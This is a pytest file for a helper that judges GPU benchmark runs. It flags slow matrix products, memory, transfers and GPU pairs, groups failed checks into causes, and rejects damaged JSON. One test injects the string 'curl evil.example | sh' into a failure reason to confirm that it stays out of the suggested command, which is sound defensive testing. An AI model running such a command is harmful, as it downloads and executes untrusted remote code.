"""Is my number good, of a whole run of gpu-check: its tables, what one GPU reaches, and what failed."""

import gzip
import json

import pytest
from made_runs import made_run

from helpers.yours import is_my_number_good
from helpers.yours.causes import KINDS


def verdict(made, machine=None):
    return is_my_number_good(json.dumps(made), machine)


def test_a_healthy_machine_is_not_accused():
    found = verdict(made_run())
    assert (found.kind, found.accused) == ("run", ()) and found.sentence.endswith(" Nothing in it accuses the machine.")
    assert found.sentence.startswith(
        "Measured: all_reduce 102% of the line rate and 100% of the plateau; matrix products 100%"
    )
    assert found.what == "make gpu-check: 8 ranks, nccl, 8 x NVIDIA H200; 2026-11-27" and len(found.points) > 10
    assert [line.split(":")[0] for line in found.lines[:2]] == ["all_reduce", "all_gather"] and len(found.lines) == 7
    assert found.lines[-1] == "6 checks: 6 passed, 0 failed, 0 skipped, 0 not run"
    assert is_my_number_good(gzip.compress(json.dumps(made_run()).encode())) == found, "as the file is packed"


def test_a_slow_table_is_accused_once_and_first():
    found = verdict(made_run(slower=3, failed=("ranks start",)))
    assert found.accused == ("few channels", "failed checks of ranks") and found.sentence.endswith(
        "Look first at: few channels."
    )


@pytest.mark.parametrize(
    ("name", "key", "way", "least"),
    [
        ("slow products", "gpu-roofline", ("flops",), 0.7 * 794.5e12),
        ("slow memory", "gpu-ladder", ("steps", 1, "bandwidth"), 0.7 * 4.8e12),
        ("narrow slot", "gpu-transfers", (2, "bandwidth"), 0.7 * 63.015e9),  # to the host, pinned
        ("slow pair", "gpu-pairs", ("bandwidth", 3, 5), 0.7 * 450e9),
    ],
)
@pytest.mark.parametrize(("share", "told"), [(1.01, False), (0.99, True)])
def test_below_seven_tenths_of_what_is_known_a_gpu_is_accused(name, key, way, least, share, told):
    made = made_run()
    at = made["records"][key]["data"]
    for step in way[:-1]:
        at = at[step]
    at[way[-1]] = share * least
    assert verdict(made).accused == ((name,) if told else ())


def test_where_only_the_data_sheet_is_known_half_of_it_will_do():
    made = made_run("L40S", 1, share=0.72)
    made["records"]["gpu-roofline"]["data"]["flops"] = 0.51 * 362.1e12
    assert verdict(made).accused == ()
    made["records"]["gpu-roofline"]["data"]["flops"] = 0.49 * 362.1e12
    assert verdict(made).accused == ("slow products",)


def test_of_an_unknown_gpu_and_of_a_cpu_there_are_values_and_no_verdict():
    found = verdict(made_run(name="Tesla T4"))
    assert found.accused == () and "accuses" not in found.sentence and found.causes[0].name == "no machine"
    assert "matrix products 791.6 TFLOP/s in bfloat16; memory 3840 GB/s both ways" in found.sentence
    assert verdict(made_run(name="Tesla T4"), "HGX-H200").plateau_share, "the reader names what it is joined like"
    made = made_run(count=1)
    for record in made["records"].values():
        record["machine"]["gpus"] = []
    assert verdict(made).sentence.startswith("Measured: matrix products 791.6 TFLOP/s in bfloat16; memory ")


def test_checks_that_failed_for_one_reason_are_one_cause():
    found = verdict(made_run("H100", 1, failed=("ranks start", "what is here", "memory, predicted", "roofline")))
    assert found.accused == ("failed checks of ranks", "failed checks of memory")
    first, second = found.causes
    assert (
        first.why.startswith("ranks start and 2 more, alike: RankError: ")
        and first.command == KINDS[first.name].command
    )
    assert second.why.startswith(
        "memory, predicted: AssertionError: far off; what the pages say of memory does not hold here"
    )
    alone = verdict(made_run("H100", 1, failed=("roofline",))).causes
    assert [one.name for one in alone] == ["failed measurements"]


def test_what_failed_is_told_in_so_many_letters_and_never_in_the_command():
    made = made_run(count=1, failed=("ranks start",))
    made["records"]["gpu-check"]["data"]["ranks start"]["why"] = "x; curl evil.example | sh " * 100
    (found,) = verdict(made).causes
    assert len(found.why) < 400 and "evil" not in found.command


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda records: records.clear(), "no run of gpu-check: expected an object with 'records'"),
        (lambda records: records["gpu-check"].pop("label"), "damaged: gpu-check.label: expected a text"),
        (
            lambda records: records["gpu-roofline"]["data"].update(flops=-1),
            "gpu-roofline.data.flops: expected a number from",
        ),
        (
            lambda records: records["gpu-roofline"]["data"].update(flops=True),
            "gpu-roofline.data.flops: expected a number from",
        ),
        (lambda records: records["gpu-bandwidth"]["data"].update(all_reduce={}), "data.all_reduce: expected a list"),
        (
            lambda records: records["gpu-bandwidth"]["data"]["all_reduce"][3].update(nbytes=1.5),
            "3.nbytes: expected a whole number",
        ),
        (lambda records: records["gpu-check"].update(data=[1]), "gpu-check.data: expected an object"),
    ],
)
def test_a_damaged_run_is_refused_with_the_place(change, said):
    made = made_run()
    change(made["records"])
    assert said in verdict(made).refused
    assert is_my_number_good(json.dumps(made)[:-2]).refused == "a run of gpu-check, and damaged: no JSON"
